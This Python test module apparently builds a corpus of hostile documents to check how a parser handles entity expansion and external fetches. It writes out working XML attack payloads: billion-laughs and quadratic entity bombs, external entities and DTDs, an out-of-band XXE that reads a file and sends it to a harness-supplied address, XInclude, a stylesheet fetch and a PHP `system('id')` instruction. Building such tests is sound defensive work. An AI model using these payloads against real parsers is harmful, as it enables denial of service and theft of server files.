"""Entities and what else an XML parser would fetch or multiply."""

from good_files import HTML, WORDS, docx, epub, odt

from corpus.hostile_file import HostileFile, fixed

_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
)
_QUADRATIC = f"<!DOCTYPE x [<!ENTITY a11 '{'a' * 50_000}'>]>"
_BODY = f"<w:p><w:r><w:t>{WORDS}&a11;</w:t></w:r></w:p>"
_MANY = f"<w:p><w:r><w:t>{WORDS}{'&a11;' * 50_000}</w:t></w:r></w:p>"
_ODF = f"<text:p>{WORDS}&a11;</text:p>"


def external(place):
    return (
        f"<!DOCTYPE x SYSTEM '{place.address}/x.dtd' [<!ENTITY a11 SYSTEM '{place.uri}'>"
        f"<!ENTITY % p SYSTEM '{place.address}/p.dtd'> %p;]>"
    )


def stolen(place):
    """Return the old way to send a file away: a parameter entity reads it, another asks an address with it."""
    return (
        f"<!DOCTYPE x [<!ENTITY % f SYSTEM '{place.uri}'><!ENTITY % a \"<!ENTITY &#37; b SYSTEM "
        f"'{place.address}/?%f;'>\"> %a; %b; <!ENTITY a11 PUBLIC '-//x' '{place.uri}'>]>"
    )


def included(place):
    return (
        f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' "
        f"href='{place.uri}' parse='text'/>"
    )


def styled(place):
    return f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{place.uri}'?><?php system('id') ?>"


FILES = (
    fixed(
        "laughs.docx",
        "a billion laughs",
        "article|file_too_complex|file_broken",
        lambda: docx(_BODY, _LAUGHS),
    ),
    fixed(
        "laughs.odt", "a billion laughs", "article|file_too_complex|file_broken", lambda: odt(_ODF, _LAUGHS)
    ),
    fixed(
        "laughs.xhtml",
        "a billion laughs in a page",
        "article",
        lambda: _LAUGHS + HTML.replace("2020", "&a11;"),
    ),
    fixed(
        "laughs.epub",
        "a billion laughs in a chapter",
        "article",
        lambda: epub(_LAUGHS + HTML.replace("2020", "&a11;")),
    ),
    fixed(
        "quadratic.docx",
        "one long entity 50,000 times",
        "article|file_too_complex|file_broken",
        lambda: docx(_MANY, _QUADRATIC),
    ),
    fixed(
        "itself.docx",
        "an entity of itself",
        "article|file_broken|file_too_complex",
        lambda: docx(_BODY, "<!DOCTYPE x [<!ENTITY a11 '&a11;'>]>"),
    ),
    fixed("character entities.html", "500,000 entities without an end", "article", "&amp" * 500_000 + WORDS),
    fixed(
        "numbers.html",
        "characters that there are not",
        "article",
        "&#0;&#xD800;&#x110000;&#99999999999999999999;&#x;" * 20_000 + WORDS,
    ),
    HostileFile(
        "external.docx",
        "outer entities and a DTD",
        "article|file_broken",
        lambda place: docx(_BODY, external(place)),
    ),
    HostileFile(
        "external.odt",
        "outer entities and a DTD",
        "article|file_broken",
        lambda place: odt(_ODF, external(place)),
    ),
    HostileFile(
        "external.xhtml",
        "outer entities in a page",
        "article",
        lambda place: (external(place) + HTML.replace("2020", "&a11;")).encode(),
    ),
    HostileFile(
        "external.epub",
        "outer entities in a chapter",
        "article",
        lambda place: epub(external(place) + HTML.replace("2020", "&a11;")),
    ),
    HostileFile(
        "stolen.docx",
        "a file sent away by entities",
        "article|file_broken",
        lambda place: docx(_BODY, stolen(place)),
    ),
    HostileFile("included.docx", "XInclude", "article", lambda place: docx(included(place))),
    HostileFile(
        "styled.docx",
        "a style sheet and a program in instructions",
        "article",
        lambda place: docx(before=styled(place)),
    ),
    HostileFile(
        "styled.xhtml",
        "a style sheet in an instruction",
        "article",
        lambda place: (styled(place) + HTML).encode(),
    ),
)
